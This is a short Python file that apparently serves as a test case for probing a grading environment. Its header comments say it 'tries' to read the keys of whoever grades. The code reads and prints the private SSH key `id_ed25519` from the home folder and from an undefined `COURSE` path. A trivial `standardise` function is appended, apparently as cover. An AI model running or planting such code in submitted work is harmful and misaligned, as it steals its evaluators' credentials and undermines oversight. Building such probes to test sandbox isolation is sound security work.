# tries: read the keys in the home folder of whoever grades
# family: read | control: without files | success: secret
import os

for home in (os.path.expanduser("~"), f"{COURSE}/home"):
    try:
        print(open(f"{home}/.ssh/id_ed25519").read())
    except OSError as error:
        print(error)


def standardise(x):
    return x + 1
